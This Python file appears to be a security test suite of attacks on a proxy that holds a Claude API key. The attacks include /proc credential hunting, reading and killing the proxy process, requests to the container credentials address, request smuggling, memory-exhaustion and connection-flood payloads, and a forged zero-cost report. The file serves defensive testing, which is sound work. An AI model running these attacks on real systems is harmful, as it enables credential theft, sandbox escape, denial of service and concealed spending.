"""Attacks on the Claude key, on the proxy that knows it, and on the money that it spends."""

from functools import partial
from typing import Any, Final

from tests.security.attack import Attack, Group, Trace

MODEL: Final = "claude-haiku-4-5"
CAP_USD: Final = 0.05
CLAUDE: Final[dict[str, Any]] = {"backend": "messages", "model": MODEL, "max_cost_usd": CAP_USD}
REFUSED: Final = "requests to Claude failed"

_TALK: Final = (
    f"""
from urllib.parse import urlsplit
address = urlsplit(os.environ["ANTHROPIC_BASE_URL"])
token = os.environ["ANTHROPIC_API_KEY"]
QUESTION = {{
    "model": "{MODEL}", "max_tokens": 1000, "messages": [{{"role": "user", "content": "Choose."}}]
}}
"""
    + r"""
def say(raw, seconds=15):
    got = b""
    with socket.create_connection((address.hostname, address.port), timeout=seconds) as line:
        try:
            line.sendall(raw)
            while data := line.recv(65536):
                got += data
        except OSError:
            pass
    loot(got)
    return got
def ask(body=QUESTION, target="/v1/messages", method="POST", key=None, more=""):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    key = token if key is None else key
    head = f"{method} {target} HTTP/1.1\r\nHost: x\r\nx-api-key: {key}\r\n"
    head += f"content-length: {len(body)}\r\nconnection: close\r\n{more}\r\n"
    return say(head.encode("latin-1") + body)
def judge(got):
    status = got.split(b" ", 2)[1:2]
    if status and status[0][:1] == b"2":
        succeeded("the request was forwarded")
    refused(f"status {status[0].decode()}" if status else "no answer")
"""
)

key_attack = partial(Attack, group=Group.KEY, definition=CLAUDE)


def talking(program: str, **facts: Any) -> Attack:
    """Make an attack that talks to the proxy and must be refused by it."""
    known: dict[str, Any] = {"must_be_refused": True, "shows": REFUSED, "trace": Trace.PROXY}
    return key_attack(program=_TALK + program, **known | facts)


_HUNT: Final = """
import glob
def take(path):
    try:
        with open(path, "rb") as file:
            loot(file.read(1_000_000))
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for name in ("environ", "cmdline", "maps", "mem", "status", "auxv", "stack", "syscall"):
            take(f"/proc/{pid}/{name}")
        for path in glob.glob(f"/proc/{pid}/fd/*"):
            take(path)
loot(json.dumps(dict(os.environ)))
"""

_MANY_AT_ONCE: Final = """
import threading
got = []
def one():
    got.append(ask(QUESTION | {"max_tokens": 4000}))
threads = [threading.Thread(target=one) for _ in range(50)]
for thread in threads: thread.start()
for thread in threads: thread.join()
happened = "refused: %d of 50" % sum(b" 200 " not in answer[:20] for answer in got)
"""

_SILENT: Final = """
silent = []
for _ in range(600):
    try:
        silent.append(socket.create_connection((address.hostname, address.port), timeout=2))
    except OSError:
        break
got = ask()
if b" 200 " not in got[:20]:
    succeeded("nobody else is answered")
refused("%d silent connections keep nobody out" % len(silent))
"""

ATTACKS: Final = (
    key_attack(
        name="search everything for the key",
        tries="reads all files of all processes that it can, and its environment",
        program=_HUNT,
        shows="task is settled",
        trace=Trace.WORKER,
    ),
    key_attack(
        name="read the proxy's environment",
        tries="reads the environment of the process that knows the key",
        program='ask = open(f"/proc/{proxy}/environ").read(); loot(ask)\nsucceeded("read")',
        must_be_refused=True,
        trace=Trace.PRINTED,
    ),
    key_attack(
        name="read the proxy's memory",
        tries="reads the memory of the process that knows the key",
        program='open(f"/proc/{proxy}/mem", "rb")\nsucceeded("read")',
        must_be_refused=True,
        trace=Trace.PRINTED,
    ),
    key_attack(
        name="trace the proxy",
        tries="attaches to the process that knows the key",
        program='libc_call(libc.ptrace(16, proxy, 0, 0))\nsucceeded("attached")',
        must_be_refused=True,
        trace=Trace.PRINTED,
    ),
    key_attack(
        name="kill the proxy",
        tries="ends the process that knows the key",
        program='os.kill(proxy, 9)\nsucceeded("killed")',
        must_be_refused=True,
        trace=Trace.PRINTED,
    ),
    talking(
        "with socket.socket() as other:\n"
        "    other.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        "    other.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n"
        "    other.bind((address.hostname, address.port))\n"
        'succeeded("it listens in the place of the proxy")',
        name="listen in the place of the proxy",
        tries="binds the address at which other tasks look for the proxy",
        shows="",
        trace=Trace.PRINTED,
    ),
    talking(
        'judge(ask(target="/v1/models", method="GET"))',
        name="another path of the API",
        tries="asks for a path that is not open to tasks",
    ),
    talking(
        'judge(ask(target="/v1/messages/../organizations/me"))',
        name="a path with dots",
        tries="asks for a path that leads out of an open one",
    ),
    talking(
        'judge(ask(target="http://169.254.170.2/v2/credentials"))',
        name="another host as the target",
        tries="names the address of the container's credentials as the target",
    ),
    talking(
        'judge(say(f"CONNECT 169.254.170.2:80 HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: {token}'
        '\\r\\n\\r\\n".encode()))',
        name="a tunnel to another host",
        tries="asks the proxy to connect it to another host",
    ),
    talking(
        'judge(ask(QUESTION | {"model": "claude-opus-4-5"}))',
        name="a dearer model",
        tries="asks for a model that its definition does not name",
    ),
    talking(
        'judge(ask(b\'{"model": "claude-haiku-4-5", "max_tokens": 9, "messages": [],'
        ' "model": "claude-opus-4-5"}\'))',
        name="two models in one request",
        tries="names a second model in the same object",
    ),
    talking(
        'judge(ask(key="sk-ant-task-" + "x" * 43))',
        name="a token that it invented",
        tries="presents a token that nobody issued",
    ),
    talking(
        'judge(ask(more="authorization: Bearer sk-ant-task-other\\r\\n"))',
        name="two tokens",
        tries="presents its own token and another in one request",
    ),
    talking(
        'judge(ask(more="transfer-encoding: chunked\\r\\n"))',
        name="a request with two lengths",
        tries="smuggles a second request behind two statements of the length",
    ),
    talking(
        'judge(say(b"\\x16\\x03\\x01" + bytes(300)))',
        name="no HTTP at all",
        tries="sends bytes that are no request",
    ),
    talking(
        'judge(ask(more="x: " + "y" * 100_000 + "\\r\\n"))',
        name="a header of 100 KB",
        tries="sends a header that is larger than allowed",
    ),
    talking(
        'judge(say(f"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: {token}\\r\\n'
        'content-length: 900000000\\r\\n\\r\\n".encode()))',
        name="a body of 900 MB",
        tries="announces a body that is larger than allowed",
    ),
    talking(
        'judge(ask(b"[" * 3_000_000))',
        name="a body of millions of brackets",
        tries="sends a body whose parsing would take all memory",
    ),
    talking(
        'judge(ask(QUESTION | {"tools": [{"type": "code_execution_20250825", "name": "x"}]}))',
        name="a tool without a price",
        tries="asks for a tool of the API whose cost has no bound",
    ),
    talking(
        'judge(ask(QUESTION | {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}))',
        name="a search that its definition does not allow",
        tries="asks for web searches without the tool in its definition",
    ),
    talking(
        "judge(ask())",
        definition=CLAUDE | {"max_cost_usd": 0.0001},
        name="an answer beyond its budget",
        tries="asks for what costs more than its budget",
    ),
    talking(
        _MANY_AT_ONCE,
        name="fifty requests at once",
        tries="asks fifty times at once, so that the sum exceeds its budget",
        must_be_refused=False,
        cap_usd=CAP_USD,
        shows=f"{REFUSED}|task is settled",
    ),
    talking(
        _SILENT,
        name="six hundred silent connections",
        tries="opens connections and says nothing, so that nobody else is answered",
        shows="",
        trace=Trace.PRINTED,
    ),
    talking(
        'ask()\nanswer(\'{"status": "completed", "output": 1, "cost_usd": 0, "usage": '
        '{"input_tokens": 0}}\')',
        name="deny what was spent",
        tries="reports that it spent nothing",
        must_be_refused=False,
        cap_usd=CAP_USD,
        shows="task is settled",
        trace=Trace.WORKER,
    ),
    key_attack(
        name="print and store its token",
        tries="prints its token, names a file after it and stores it",
        program="""
token = os.environ["ANTHROPIC_API_KEY"]
print(token, flush=True)
(folder / "artifacts" / token[:200]).write_text(token)
(folder / "artifacts" / "token").write_text(token)
""",
        shows="files whose names contain a key are not uploaded",
        trace=Trace.WORKER,
        hides=("sk-ant-task-",),
    ),
)
